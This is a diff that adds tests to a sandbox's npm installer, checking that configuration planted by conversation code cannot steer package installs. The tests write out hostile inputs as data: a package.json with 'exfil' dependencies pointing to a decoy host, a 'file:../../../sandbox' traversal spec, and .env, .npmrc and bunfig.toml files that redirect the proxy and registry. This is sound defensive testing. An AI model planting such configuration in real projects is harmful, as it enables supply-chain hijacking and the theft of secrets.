@@ -16,6 +16,7 @@ import { randomBytes } from 'node:crypto';
 import { describeRun } from './lib/sandbox.mjs';
 import { SLOW, expectStatus, py, run, startWarm, stopWarm } from './lib/warm.mjs';
 import { serveIndex, wheel } from './lib/pyindex.mjs';
+import { npmPackage, serveRegistry } from './lib/npmreg.mjs';
 
 const T = 300_000 * SLOW;
 const CA = '/etc/ssl/certs/ca-certificates.crt';
@@ -269,6 +270,108 @@ describe('packages on demand', () => {
     assert.equal(missing.sc.packages.failed, true);
     assert.match(missing.sc.message, /bun add exited with code \d+: error: .*mcpsd-no-such-package-zz9/);
     assert.doesNotMatch(missing.sc.stdout, /RAN/);
+  });
+});
+
+describe('npm: nothing the conversation wrote configures the installer', () => {
+  // Code of a conversation (no network) plants configuration where the
+  // installer (with network) used to work; the next call with packages
+  // must ask the registry for those packages and nothing else, and the
+  // decoy (any other host: an exfiltration URL, the bridge, the host) for
+  // nothing at all.
+  let d, reg;
+  before(async () => {
+    reg = await serveRegistry([
+      npmPackage('mcpsd-good', '1.0.0', 'good-1'),
+      npmPackage('mcpsd-other', '2.0.0', 'other-2'),
+    ]);
+    d = await startWarm({ name: 'packages-npm', env: { SANDBOX_PACKAGES_NPM_REGISTRY: reg.url } });
+  });
+  after(async () => {
+    await stopWarm(d);
+    await reg?.close();
+  });
+
+  /** Python code that writes files ({ name: text }) under dir of /data. */
+  const plant = (dir, files) =>
+    [
+      'import os, json',
+      `d = ${JSON.stringify(dir)}`,
+      'os.makedirs(d, exist_ok=True)',
+      `for n, t in json.loads(${JSON.stringify(JSON.stringify(files))}).items():`,
+      '    open(os.path.join(d, n), "w").write(t)',
+      'print("planted")',
+    ].join('\n');
+  const NODE = '/data/.mcp/packages/node';
+  const useGood = 'import good from "mcpsd-good";\nconsole.log(good.value);';
+
+  /** Only the registry, only for the packages named: no foreign request. */
+  function onlyAsked(mark, names) {
+    const asked = reg.requests.slice(mark);
+    const allowed = new RegExp(`^GET /(?:-/tarballs/)?(?:${names.join('|')})(?:$|[-/?])`);
+    assert.deepEqual(reg.decoy.requests, [], 'the decoy was asked nothing');
+    assert.ok(asked.length > 0, 'the registry was asked');
+    assert.deepEqual(asked.filter((r) => !allowed.test(r)), [], `only ${names} were asked for: ${asked}`);
+  }
+
+  async function attack(conv, files) {
+    const p = await py(d.client, conv, plant(NODE, files));
+    expectStatus(p, 'completed');
+    const mark = reg.requests.length;
+    const r = await run(d.client, conv, 'typescript', useGood, { packages: ['mcpsd-good'] });
+    assert.deepEqual(reg.decoy.requests, [], `the installer asked the decoy nothing: ${describeRun(r)}`);
+    expectStatus(r, 'completed');
+    assert.equal(r.sc.stdout, 'good-1\n');
+    assert.deepEqual(r.sc.packages.installed, ['mcpsd-good']);
+    onlyAsked(mark, ['mcpsd-good']);
+    return r;
+  }
+
+  test('a planted package.json with a URL dependency is not installed', { timeout: T }, async () => {
+    await attack('npm-manifest', {
+      'package.json': JSON.stringify({
+        dependencies: {
+          exfil: `${reg.decoy.url}/secret-token.tgz`,
+          alias: `npm:exfil@${reg.decoy.url}/alias.tgz`,
+          'mcpsd-other': 'file:../../../sandbox',
+        },
+        optionalDependencies: { exfil2: `${reg.decoy.url}/optional.tgz` },
+      }),
+    });
+    const ls = await py(d.client, 'npm-manifest', `import os\nprint(sorted(os.listdir(${JSON.stringify(NODE + '/node_modules')})))`);
+    expectStatus(ls, 'completed');
+    assert.doesNotMatch(ls.sc.stdout, /exfil|alias|bait/, 'nothing from the planted manifest is in the cache');
+  });
+
+  test('a planted .env, .npmrc and bunfig.toml set no proxy or registry', { timeout: T }, async () => {
+    const proxy = reg.decoy.url;
+    const env = `HTTP_PROXY=${proxy}\nHTTPS_PROXY=${proxy}\nhttp_proxy=${proxy}\nBUN_CONFIG_REGISTRY=${proxy}/\nNPM_CONFIG_REGISTRY=${proxy}/\n`;
+    await attack('npm-env', {
+      '.env': env,
+      '.env.local': env,
+      '.env.production': env,
+      '.npmrc': `registry=${proxy}/\nproxy=${proxy}\nhttps-proxy=${proxy}\n`,
+      'bunfig.toml': `[install]\nregistry = "${proxy}/"\n`,
+    });
+  });
+
+  test('packages installed earlier stay usable; a tarball spec is refused before anything runs', { timeout: T }, async () => {
+    const first = await run(d.client, 'npm-keep', 'typescript', useGood, { packages: ['mcpsd-good'] });
+    expectStatus(first, 'completed');
+    const mark = reg.requests.length;
+    const code = 'import good from "mcpsd-good";\nimport other from "mcpsd-other";\nconsole.log(good.value, other.value);';
+    const r = await run(d.client, 'npm-keep', 'typescript', code, { packages: ['mcpsd-other'] });
+    expectStatus(r, 'completed');
+    assert.equal(r.sc.stdout, 'good-1 other-2\n');
+    onlyAsked(mark, ['mcpsd-good', 'mcpsd-other']);
+
+    const m2 = reg.requests.length;
+    for (const spec of ['x.tgz', `${reg.decoy.url}/x.tgz`, 'mcpsd-good@x.tgz', 'file:../x']) {
+      const bad = await run(d.client, 'npm-keep', 'typescript', 'console.log(1)', { packages: [spec] });
+      expectRefused(bad, /npm package .* (names a tarball|the version names a tarball|is not a name with an optional version|must start with a package name)/);
+    }
+    assert.deepEqual(reg.requests.slice(m2), [], 'refused specs reach no registry');
+    assert.deepEqual(reg.decoy.requests, [], 'nor the decoy');
   });
 });
 
